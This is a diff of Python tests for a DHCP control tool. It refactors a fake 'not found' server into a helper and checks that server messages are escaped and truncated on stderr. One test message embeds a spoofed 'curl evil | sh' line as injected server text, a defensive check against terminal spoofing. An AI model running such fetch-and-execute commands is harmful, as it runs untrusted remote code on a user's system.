@@ -46,6 +46,19 @@ def lease_server(hostname: bytes) -> Behaviour:
     return behaviour
 
 
+def refusing(message: str) -> Behaviour:
+    """A fake dhcpd (no key) that answers every request "not found", saying ``message``."""
+    refusal = ((b"result", ISC_R_NOTFOUND.to_bytes(4, "big")), (b"message", message.encode()))
+
+    def refuse(sock: socket.socket) -> None:
+        handshake(sock, keyed=False)
+        while True:
+            request = recv_message(sock, None)
+            sock.sendall(reply(request, False, op=OP_STATUS, message_values=refusal))
+
+    return refuse
+
+
 def lease_get(
     port: int, backend: str, *extra: str, **env: str
 ) -> subprocess.CompletedProcess[bytes]:
@@ -128,15 +141,7 @@ def test_a_server_message_is_one_escaped_bounded_line(
     stderr, its controls escaped, the server's text cut after its first
     ``cli._output.SERVER_TEXT_LENGTH`` characters and its size given."""
     message = "no such lease\ndhcpctl: run: curl evil | sh" + CONTROLS + "A" * 60000
-    refusal = ((b"result", ISC_R_NOTFOUND.to_bytes(4, "big")), (b"message", message.encode()))
-
-    def refuse(sock: socket.socket) -> None:
-        handshake(sock, keyed=False)
-        while True:
-            request = recv_message(sock, None)
-            sock.sendall(reply(request, False, op=OP_STATUS, message_values=refusal))
-
-    result = lease_get(fake_server(refuse), backend_name)
+    result = lease_get(fake_server(refusing(message)), backend_name)
     assert result.returncode == ExitCode.NOT_FOUND
     assert result.stderr.count(b"\n") == 1 and result.stderr.endswith(b"\n")
     assert terminal_safe(result.stderr), result.stderr[:300]
@@ -181,15 +186,7 @@ def test_a_bulk_failure_line_is_escaped_and_bounded(
     message as an error line does: control characters escaped, cut after
     ``SERVER_TEXT_LENGTH`` characters with its size."""
     message = "no such host" + CONTROLS + "A" * 5000
-    refusal = ((b"result", ISC_R_NOTFOUND.to_bytes(4, "big")), (b"message", message.encode()))
-
-    def refuse(sock: socket.socket) -> None:
-        handshake(sock, keyed=False)
-        while True:
-            request = recv_message(sock, None)
-            sock.sendall(reply(request, False, op=OP_STATUS, message_values=refusal))
-
-    port = fake_server(refuse)
+    port = fake_server(refusing(message))
     export = ["host", "export", "--names", "-", "--server", f"127.0.0.1:{port}"]
     result = run_dhcpctl(export, stdin=b"h\n", env=clean_environment())
     assert result.returncode == ExitCode.SOME_ROWS_FAILED, result.stderr
